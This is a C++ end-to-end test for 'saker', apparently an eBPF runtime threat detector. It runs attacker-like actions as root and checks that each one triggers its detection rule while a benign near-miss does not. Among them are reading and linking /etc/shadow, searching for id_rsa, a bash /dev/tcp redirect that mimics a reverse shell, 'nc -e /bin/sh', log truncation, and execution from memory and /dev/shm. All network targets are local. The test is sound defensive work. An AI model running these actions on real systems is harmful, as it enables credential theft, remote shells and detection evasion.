// saker's default rules (rules/saker_rules.yaml), each proved live: the real saker binary
// watches the host through the eBPF driver with the shipped rules file, the test performs
// for every rule the real action an attacker would (with real programs: cat, touch, chmod,
// sh, and live_e2e_helper copied under the names the rules look at), and a benign near-miss
// of it; then it checks that each action raised its rule, naming the actor, and that no
// near-miss raised anything. The rules about containers are proved by the container
// plugin's end-to-end test (plugins/container/tests/e2e).
//
// Needs root and a kernel with BTF (CI runs as root); skips with a message otherwise.
#include <doctest/doctest.h>
#include <unistd.h>

#include <cstdlib>
#include <fstream>
#include <map>
#include <set>

#include "../test_util.h"
#include "live_actions.h"
#include "live_harness.h"

namespace saker::live_e2e {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

constexpr const char* kReady = "opened event source 'syscall'";
constexpr const char* kSensitiveRead = "Sensitive file read by an unexpected program";

// The actions, one (or more) per rule of rules/saker_rules.yaml.
class DefaultRulesPlanner {
 public:
  DefaultRulesPlanner(const BuildPaths& paths, const fs::path& tmp)
      : paths_(paths), tmp_(tmp), log_(tmp / "actions.log"), user_(own_user()) {}

  pid_t act(const std::string& action, const std::vector<std::string>& argv) {
    RunResult r = run(argv, log_);
    if (!r.ok())
      plan_.errors.push_back(action + ": command failed (status " + std::to_string(r.status) +
                             "), see " + log_.string());
    return r.pid;
  }
  void expect(const std::string& action, const std::string& rule, pid_t pid,
              std::map<std::string, std::vector<std::string>> fields = {},
              const std::string& pid_field = "proc.pid") {
    fields.emplace("user.name", std::vector<std::string>{user_});
    plan_.expected.push_back({action, rule, pid_field, pid, std::move(fields)});
    ++rules_proved_[rule];
  }
  void near_miss(const std::string& action, pid_t pid) { plan_.near_misses.push_back({action, pid}); }

  // The helper under another name (rules look at proc.name).
  fs::path helper_as(const std::string& name) {
    const fs::path p = tmp_ / name;
    fs::copy_file(paths_.helper, p, fs::copy_options::overwrite_existing);
    return p;
  }

  void files() {
    const std::string cat = resolved("/bin/cat"), touch = resolved("/bin/touch");
    const std::string chmod = resolved("/bin/chmod"), sh = resolved("/bin/sh");
    const std::string id = std::to_string(getpid());

    expect("cat /etc/shadow", kSensitiveRead, act("cat /etc/shadow", {cat, "/etc/shadow"}),
           {{"fd.name", {"/etc/shadow"}}, {"proc.name", {"cat"}}});
    near_miss("cat /etc/hostname", act("cat /etc/hostname", {cat, "/etc/hostname"}));

    // /tmp/../.. is / again: the kernel opens /etc/hostname, the argument keeps the climb
    expect("cat /tmp/../../etc/hostname", "File below /etc read through directory traversal",
           act("cat through ../..", {cat, "/tmp/../../etc/hostname"}),
           {{"fd.name", {"/etc/hostname"}}, {"fd.nameraw", {"/tmp/../../etc/hostname"}}});
    near_miss("cat /tmp/../etc/hostname (one level up)",
              act("cat through ..", {cat, "/tmp/../etc/hostname"}));

    const fs::path etc_file = "/etc/saker-rules-test-" + id;
    const fs::path bin_file = "/usr/local/bin/saker-rules-test-" + id;
    const fs::path dev_file = "/dev/saker-rules-test-" + id;
    const fs::path shm_file = "/dev/shm/saker-rules-test-" + id;
    const fs::path log_file = "/var/log/saker-rules-test-" + id + ".log";
    cleanup_ = {etc_file, bin_file, dev_file, shm_file, log_file};

    expect("touch " + etc_file.string(), "Write below /etc", act("touch below /etc", {touch, etc_file}),
           {{"fd.name", {etc_file}}});
    near_miss("touch in tmp", act("touch in tmp", {touch, tmp_ / "plain-file"}));

    expect("touch " + bin_file.string(), "Write below binary directories",
           act("touch below /usr/local/bin", {touch, bin_file}), {{"fd.name", {bin_file}}});
    near_miss("cat /usr/bin/true (read)", act("read a binary", {cat, resolved("/bin/true")}));

    const fs::path bashrc = tmp_ / ".bashrc";
    expect("touch ~/.bashrc", "Shell configuration file modified", act("touch .bashrc", {touch, bashrc}),
           {{"fd.name", {bashrc}}});
    near_miss("touch bashrc.txt", act("touch bashrc.txt", {touch, tmp_ / "bashrc.txt"}));

    expect("touch " + dev_file.string(), "Regular file created below /dev",
           act("touch below /dev", {touch, dev_file}), {{"fd.name", {dev_file}}});
    near_miss("touch below /dev/shm", act("touch below /dev/shm", {touch, shm_file}));

    // the near-miss (an append) creates the log, the action truncates it
    near_miss("append to a log", act("append to a log", {sh, "-c", "echo saker >> " + log_file.string()}));
    expect("truncate a log", "Log file cleared or removed",
           act("truncate a log", {sh, "-c", ": > " + log_file.string()}), {{"fd.name", {log_file}}});

    const fs::path setuid_file = tmp_ / "setuid-me", exec_file = tmp_ / "exec-me";
    act("create files", {touch, setuid_file, exec_file});
    expect("chmod u+s", "Set-user-id bit set on a file", act("chmod u+s", {chmod, "u+s", setuid_file}),
           {{"fs.path.name", {setuid_file}}});
    near_miss("chmod u+x", act("chmod u+x", {chmod, "u+x", exec_file}));

    const std::string ln = resolved("/bin/ln");
    expect("ln -s /etc/shadow", "Symbolic link to a sensitive file created",
           act("symlink to /etc/shadow", {ln, "-s", "/etc/shadow", tmp_ / "shadow-link"}));
    near_miss("ln -s /etc/hostname",
              act("symlink to /etc/hostname", {ln, "-s", "/etc/hostname", tmp_ / "hostname-link"}));
    expect("ln /etc/shadow", "Hard link to a sensitive file created",
           act("hard link to /etc/shadow", {ln, "/etc/shadow", tmp_ / "shadow-hard"}));
    near_miss("ln of a plain file",
              act("hard link to a plain file", {ln, tmp_ / "plain-file", tmp_ / "plain-hard"}));
  }

  void processes() {
    expect("nginx spawns sh", "Shell spawned by a server process",
           act("nginx spawns sh", {helper_as("nginx"), "spawn-shell"}), {{"proc.pname", {"nginx"}}},
           "proc.ppid");
    near_miss("bash spawns sh", act("bash spawns sh", {helper_as("bash"), "spawn-shell"}));

    expect("exec from a memfd", "Program executed from memory",
           act("memfd exec", {paths_.helper, "memfd-exec"}));
    near_miss("exec /bin/true", act("file exec", {paths_.helper, "file-exec"}));

    // a program named useradd (the helper, doing nothing) is what the rule looks at
    const fs::path useradd = helper_as("useradd");
    expect("useradd runs", "User or group management program run",
           act("useradd runs", {useradd, "file-exec"}));
    near_miss("id runs", act("id runs", {resolved("/usr/bin/id")}));

    // PTRACE_ATTACH and PTRACE_TRACEME each have their rule; a debugger (the helper named
    // gdb) doing either is the near-miss of both
    expect("PTRACE_ATTACH", "Process attached to another with ptrace",
           act("ptrace attach", {paths_.helper, "ptrace-attach"}));
    near_miss("gdb's PTRACE_ATTACH", act("gdb ptrace attach", {helper_as("gdb"), "ptrace-attach"}));
    // the helper's child asks to be traced
    expect("PTRACE_TRACEME", "Process asked to be traced by its parent (PTRACE_TRACEME)",
           act("ptrace traceme", {paths_.helper, "ptrace-traceme"}), {}, "proc.ppid");
    near_miss("gdb's child PTRACE_TRACEME", act("gdb ptrace traceme", {helper_as("gdb"), "ptrace-traceme"}));

    // a shell on a new terminal as daemon (uid 1), in a child of the helper; the same as a
    // regular uid (1000) is the near-miss
    expect("daemon's shell on a terminal", "Interactive shell run by a system user",
           act("tty shell as uid 1", {paths_.helper, "tty-shell", "1"}),
           {{"user.name", {"daemon"}}, {"proc.name", {"sh"}}}, "proc.ppid");
    near_miss("uid 1000's shell on a terminal", act("tty shell as uid 1000", {paths_.helper, "tty-shell", "1000"}));

    expect("finit_module", "Kernel module loaded", act("finit_module", {paths_.helper, "finit-module"}));
    near_miss("cat /proc/version", act("cat /proc/version", {resolved("/bin/cat"), "/proc/version"}));

    expect("BPF_PROG_LOAD", "BPF program loaded", act("bpf prog load", {paths_.helper, "bpf-prog-load"}));
    near_miss("BPF_MAP_CREATE", act("bpf map create", {paths_.helper, "bpf-map-create"}));

    const std::string find = resolved("/usr/bin/find");
    expect("find id_rsa", "Search for private keys or credentials",
           act("find id_rsa", {find, tmp_, "-name", "id_rsa"}), {{"proc.name", {"find"}}});
    near_miss("find *.txt", act("find *.txt", {find, tmp_, "-name", "*.txt"}));

    act("create files", {resolved("/bin/touch"), tmp_ / "to-shred", tmp_ / "to-remove"});
    expect("shred", "Data destruction tool run", act("shred", {resolved("/usr/bin/shred"), tmp_ / "to-shred"}));
    near_miss("rm", act("rm", {resolved("/bin/rm"), tmp_ / "to-remove"}));

    const fs::path shm_exe = "/dev/shm/saker-rules-test-" + std::to_string(getpid());
    fs::copy_file(paths_.helper, shm_exe, fs::copy_options::overwrite_existing);
    cleanup_.push_back(shm_exe);
    expect("run from /dev/shm", "Program executed from /dev/shm", act("run from /dev/shm", {shm_exe, "noop"}),
           {{"proc.exepath", {shm_exe}}});
    near_miss("run from /tmp", act("run from /tmp", {helper_as("plain-tool"), "noop"}));

    // a copy of /bin/true opened by bash, removed, then run through its descriptor: the
    // kernel names the running file "PATH (deleted)"
    const std::string bash = resolved("/bin/bash");
    const fs::path doomed = fs::canonical(tmp_) / "deleted-tool";
    fs::copy_file(resolved("/bin/true"), doomed, fs::copy_options::overwrite_existing);
    expect("run a deleted binary", "Deleted binary executed",
           act("run a deleted binary",
               {bash, "-c", "exec 3<'" + doomed.string() + "' && rm '" + doomed.string() +
                                "' && exec /proc/self/fd/3"}),
           {{"proc.exepath", {doomed.string() + " (deleted)"}}});
    const fs::path kept = fs::canonical(tmp_) / "kept-tool";
    fs::copy_file(resolved("/bin/true"), kept, fs::copy_options::overwrite_existing);
    near_miss("run a binary through its descriptor, not deleted",
              act("run a kept binary",
                  {bash, "-c", "exec 3<'" + kept.string() + "' && exec /proc/self/fd/3"}));

    const fs::path nc = helper_as("nc");
    expect("nc -e /bin/sh", "Netcat run with a program to execute",
           act("nc -e", {nc, "noop", "-e", "/bin/sh", "127.0.0.1", "4444"}));
    near_miss("nc -l", act("nc -l", {nc, "noop", "-l", "4444"}));

    // unshare happens in a child of the helper
    expect("unshare(CLONE_NEWUTS)", "Namespace changed by an unexpected program",
           act("unshare", {paths_.helper, "unshare"}), {}, "proc.ppid");
    near_miss("the unshare tool", act("unshare tool", {helper_as("unshare"), "unshare"}));
  }

  void network() {
    TcpListener local("127.0.0.1");
    const std::string port = std::to_string(local.port());
    expect("cat connects out", "System binary made a network connection",
           act("cat connects", {helper_as("cat"), "connect", "127.0.0.1", port}),
           {{"proc.name", {"cat"}}});
    near_miss("curl connects out", act("curl connects", {helper_as("curl"), "connect", "127.0.0.1", port}));

    expect("raw socket", "Raw socket opened", act("raw socket", {paths_.helper, "raw-socket"}));
    near_miss("ping's raw socket", act("ping raw socket", {helper_as("ping"), "raw-socket"}));

    // a program named ssh connecting to a port other than 22; to port 22 is the near-miss
    expect("ssh to a high port", "SSH connection to a non-standard port",
           act("ssh connects to a high port", {helper_as("ssh"), "connect", "127.0.0.1", port}),
           {{"proc.name", {"ssh"}}, {"fd.sport", {port}}});
    {
      TcpListener ssh_port("127.0.0.1", 22);
      near_miss("ssh to port 22", act("ssh connects to 22", {helper_as("ssh"), "connect", "127.0.0.1", "22"}));
    }

    TcpListener pool("127.0.0.1", 3333);
    expect("connect to :3333", "Connection to a mining pool port",
           act("pool connect", {paths_.helper, "connect", "127.0.0.1", "3333"}));
    near_miss("connect to another port",
              act("other connect", {helper_as("wget"), "connect", "127.0.0.1", port}));
  }

  // bash puts a TCP connection on its standard input and output (a reverse shell's move);
  // the near-miss puts a file there.
  void reverse_shell() {
    TcpListener listener("127.0.0.1");
    const std::string bash = resolved("/bin/bash");
    const std::string port = std::to_string(listener.port());
    expect("bash stdio to a socket", "Standard input or output redirected to a network connection",
           act("bash stdio to a socket",
               {bash, "-c", "exec 3<>/dev/tcp/127.0.0.1/" + port + " && exec 0<&3 1>&3 && exit 0"}),
           {{"proc.name", {"bash"}}});
    near_miss("bash stdin from a file",
              act("bash stdin from a file", {bash, "-c", "exec 3</etc/hostname && exec 0<&3 && exit 0"}));
  }

  void sentinel() { plan_.sentinel = act("sentinel", {resolved("/bin/cat"), "/etc/shadow"}); }

  ~DefaultRulesPlanner() {
    for (const auto& p : cleanup_) {
      std::error_code ec;
      fs::remove(p, ec);
    }
  }

  ActionPlan take() { return std::move(plan_); }
  const std::map<std::string, int>& rules_proved() const { return rules_proved_; }

 private:
  const BuildPaths& paths_;
  fs::path tmp_, log_;
  std::string user_;
  ActionPlan plan_;
  std::map<std::string, int> rules_proved_;
  std::vector<fs::path> cleanup_;
};

// The rule names of the shipped file.
std::set<std::string> shipped_rules(const fs::path& file) {
  std::set<std::string> names;
  std::ifstream in(file);
  std::string line;
  const std::string key = "- rule: ";
  while (std::getline(in, line)) {
    if (line.rfind(key, 0) == 0) names.insert(line.substr(key.size()));
  }
  return names;
}

TEST_CASE("every default rule fires on its real action and not on its near-miss") {
  if (geteuid() != 0) {
    MESSAGE("skipped: the live driver needs root");
    return;
  }
  const BuildPaths paths = build_paths();
  test::TempDir dir;
  SakerProcess saker(paths.saker,
                     {"-r", paths.rules.string(), "-o", "json_output=true", "-o", "log_level=info"},
                     dir.path());
  REQUIRE_MESSAGE(saker.wait_log(kReady, 10s), "saker did not open the source:\n" << saker.log());
  DefaultRulesPlanner planner(paths, dir.path());
  planner.files();
  planner.processes();
  planner.network();
  planner.reverse_shell();
  planner.sentinel();
  ActionPlan plan = planner.take();
  const pid_t sentinel = plan.sentinel;
  CHECK_MESSAGE(saker.wait_alert(
                    [&](const Json& a) {
                      return a.value("rule", "") == kSensitiveRead &&
                             field_text(a, "proc.pid") == std::to_string(sentinel);
                    },
                    8s),
                "the sentinel's alert did not arrive");
  CHECK(saker.stop(5s) == 0);
  const auto alerts = saker.alerts();
  MESSAGE(alerts.size() << " alerts in all (the host's own activity included)");
  const auto problems = check_alerts(plan, alerts);
  for (const auto& p : problems) FAIL_CHECK(p);
  if (!problems.empty()) {
    MESSAGE("saker's log:\n" << saker.log());
    for (const auto& a : alerts) MESSAGE(a.dump());
  }
  // every rule of the file is proved here, except those about containers
  // (proved with real podman containers by plugins/container/tests/e2e/container_e2e.sh)
  const std::set<std::string> container_rules = {
      "Interactive shell in a container", "Privileged container started",
      "Container started with a sensitive host path mounted",
      "New executable run in a container", "Mount or namespace change inside a container",
      "Cgroup release_agent written in a container", "Debugfs run in a privileged container",
      "Contact with the Kubernetes API server from a container"};
  for (const auto& rule : shipped_rules(paths.rules)) {
    if (container_rules.count(rule)) continue;
    CHECK_MESSAGE(planner.rules_proved().count(rule) == 1, "no live action proves '" << rule << "'");
  }
}

}  // namespace
}  // namespace saker::live_e2e
